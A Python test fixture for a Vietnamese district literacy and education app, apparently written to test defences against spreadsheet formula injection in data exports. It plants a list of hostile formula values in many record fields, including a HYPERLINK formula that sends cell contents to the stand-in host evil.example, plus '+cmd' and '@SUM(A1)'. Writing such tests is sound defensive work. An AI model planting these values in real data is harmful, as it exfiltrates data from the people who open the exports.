"""A district whose users typed formulas everywhere: the data behind every export, with hostile text.

Each of ``HOSTILE`` is the start of a formula for some spreadsheet program. The
world plants them in the fields people type and that the exports carry: ward
and centre names, criterion titles, classification labels, self-score
comments, the plan's section, task and unit, the activities' topic,
instructor and place, the register's people. Scores are written in bulk as a
year of published results (``tests.plans.dashboard_data``); the plan and the
activities go through their domain functions.
"""

import datetime
from dataclasses import dataclass
from decimal import Decimal

from assessments.models import Assessment, ClassificationBand, Criterion, CriterionSelfScore, Framework
from centers.activities import create_activity
from centers.models import LiteracyLevel
from plans.models import SectionPart
from plans.planning import add_section, add_task, create_plan, parse_period
from tests.centers.activity_data import kind
from tests.centers.register_data import add_people, register_import
from tests.factories import CenterFactory, DistrictUnitFactory, UserFactory
from tests.plans.dashboard_data import bulk_wards, bulk_year, varied
from wards.models import Role

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
HOSTILE = [HYPERLINK, "+cmd", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
YEAR = 2018


def inspected(index: int, year: int, number: int) -> Decimal:
    return varied(index, year, number)


def self_assessed(index: int, year: int, number: int) -> Decimal:
    """One point under the inspection where it can be: the differences include genuine negative numbers."""
    return max(varied(index, year, number) - 1, Decimal(0))


@dataclass
class HostileWorld:
    wards: list
    assessment: Assessment
    center: object
    users: dict  # persona → user (``None``: anonymous)


def build_hostile_world() -> HostileWorld:
    wards = bulk_wards(len(HOSTILE), names=dict(enumerate(HOSTILE)))
    bulk_year(YEAR, wards, inspected, self_assessed, framework=_plant_framework())
    assessment = Assessment.objects.get(ward=wards[0], cycle__year=YEAR)
    for score, text in zip(
        CriterionSelfScore.objects.filter(assessment=assessment).order_by("criterion__number"),
        HOSTILE,
        strict=False,
    ):
        score.comment = text
        score.save(update_fields=["comment"])

    staff_unit = DistrictUnitFactory()
    users = {
        "anonymous": None,
        "ward_officer": UserFactory(ward=wards[0], roles=[Role.WARD_OFFICER]),
        "center_director": UserFactory(ward=wards[0], roles=[Role.CLC_DIRECTOR]),
        "education_staff": UserFactory(unit=staff_unit, roles=[Role.EDUCATION_STAFF]),
        "steering_member": UserFactory(roles=[Role.STEERING_MEMBER]),
    }
    _plant_plan(wards[0].district, users["education_staff"])
    center = CenterFactory(ward=wards[0], name=HOSTILE[1])
    CenterFactory(ward=wards[1], name=HOSTILE[4])
    _plant_activities(center, users["center_director"])
    _plant_register(wards[0], users["center_director"])
    return HostileWorld(wards=wards, assessment=assessment, center=center, users=users)


def _plant_framework() -> Framework:
    """Circular 44 (seeded by a migration) with hostile criteria titles and grade labels."""
    framework = Framework.objects.get(code="tt44-2014", version=1)
    for criterion, text in zip(
        Criterion.objects.filter(framework=framework).order_by("number"), HOSTILE, strict=False
    ):
        criterion.title_vi = criterion.title_en = text
        criterion.save(update_fields=["title_vi", "title_en"])
    for band, text in zip(ClassificationBand.objects.filter(framework=framework), HOSTILE, strict=False):
        band.label_vi = band.label_en = text
        band.save(update_fields=["label_vi", "label_en"])
    return framework


def _plant_plan(district, staff) -> None:
    plan = create_plan(district, YEAR, staff, title="Kế hoạch năm 2018")
    section = add_section(plan, staff, part=SectionPart.ORGANISATION, title=HOSTILE[5])
    unit = DistrictUnitFactory(code="don-vi-doc-hai", name=HOSTILE[3], short_name="")
    for text in (HOSTILE[0], HOSTILE[2]):
        add_task(
            plan,
            section,
            staff,
            text=text,
            unit=unit,
            periods=parse_period("Tháng 3/2018", YEAR),
            period_label="Tháng 3/2018",
        )


def _plant_activities(center, director) -> None:
    create_activity(
        center,
        director,
        kind=kind("xoa-mu-chu"),
        title=HOSTILE[0],
        instructor=HOSTILE[2],
        place=HOSTILE[3],
        starts_on=datetime.date(YEAR, 3, 1),
        ends_on=datetime.date(YEAR, 6, 30),
    )


def _plant_register(ward, director) -> None:
    record = register_import(ward, director)
    add_people(
        ward,
        record,
        [
            {
                "full_name": HOSTILE[0],
                "birth_year": 1985,
                "level": LiteracyLevel.NONE,
                "residential_group": "+cmd",
            },
            {"full_name": "@SUM(A1)", "birth_year": 1990, "level": LiteracyLevel.LEVEL_1},
        ],
    )
